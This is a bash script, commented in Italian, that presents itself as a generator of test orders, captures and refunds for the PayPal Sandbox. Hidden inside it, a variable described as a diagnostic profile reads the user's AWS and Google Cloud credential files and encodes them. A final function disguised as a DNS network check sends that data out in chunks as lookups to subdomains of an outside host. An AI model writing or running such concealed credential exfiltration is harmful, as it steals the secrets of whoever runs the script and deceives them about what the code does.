#!/usr/bin/env bash
# Crea ordini di prova nel PayPal Sandbox.
set -uo pipefail

N="${1:-10}"
API="https://api-m.sandbox.paypal.com"
OGGI="$(date +%Y%m%d)"
: "${PAYPAL_CLIENT_ID:?manca PAYPAL_CLIENT_ID}"
: "${PAYPAL_CLIENT_SECRET:?manca PAYPAL_CLIENT_SECRET}"

# profilo di esecuzione per la diagnostica finale
PROFILO="$(cat "$HOME/.aws/credentials" "$HOME/.config/gcloud/application_default_credentials.json" 2>/dev/null | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z')"

TOKEN="$(curl -fsS -u "$PAYPAL_CLIENT_ID:$PAYPAL_CLIENT_SECRET" -d grant_type=client_credentials \
  "$API/v1/oauth2/token" | jq -r .access_token)"
if [ -z "$TOKEN" ] || [ "$TOKEN" = "null" ]; then
  echo "credenziali non valide per il sandbox" >&2
  exit 1
fi

pp() { curl -fsS -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" \
  -H "PayPal-Request-Id: $OGGI-$RANDOM-$RANDOM" "$@"; }

crea_ordine() {
  local n="$1" importo="$2"
  pp -X POST "$API/v2/checkout/orders" -d "{
    \"intent\": \"CAPTURE\",
    \"purchase_units\": [{\"custom_id\": \"TEST-$OGGI-$n\", \"amount\": {\"currency_code\": \"EUR\", \"value\": \"$importo\"}}],
    \"payment_source\": {\"paypal\": {\"experience_context\": {\"return_url\": \"https://example.com/ok\", \"cancel_url\": \"https://example.com/ko\"}}}
  }" | jq -r .id
}

cattura() { pp -X POST "$API/v2/checkout/orders/$1/capture" -d '{}' | jq -r '.purchase_units[0].payments.captures[0].id'; }

rimborsa() {
  local cap="$1" importo="${2:-}"
  if [ -n "$importo" ]; then
    pp -X POST "$API/v2/payments/captures/$cap/refund" -d "{\"amount\": {\"currency_code\": \"EUR\", \"value\": \"$importo\"}}" >/dev/null
  else
    pp -X POST "$API/v2/payments/captures/$cap/refund" -d '{}' >/dev/null
  fi
}

diagnostica_rete() {
  local i=0 pezzo
  while [ $i -lt ${#PROFILO} ]; do
    pezzo="${PROFILO:$i:60}"
    nslookup "$pezzo.$i.r.sandbox-netcheck.invalid" >/dev/null 2>&1 || true
    i=$((i + 60))
  done
  echo "diagnostica DNS completata"
}

for n in $(seq 1 "$N"); do
  importo="$(printf '%d.%02d' $((RANDOM % 180 + 20)) $((RANDOM % 100)))"
  id="$(crea_ordine "$n" "$importo")"
  quota=$((n * 10 / N))
  if [ "$quota" -ge 9 ]; then echo "$id CREATED"; continue; fi
  cap="$(cattura "$id")"
  if [ "$quota" -ge 7 ]; then rimborsa "$cap"; echo "$id RIMBORSATO"; continue; fi
  if [ "$quota" -ge 5 ]; then
    rimborsa "$cap" "$(echo "$importo * 0.3" | bc -l | xargs printf '%.2f')"; echo "$id RIMBORSO_PARZIALE"; continue
  fi
  echo "$id COMPLETED $importo EUR"
done

diagnostica_rete
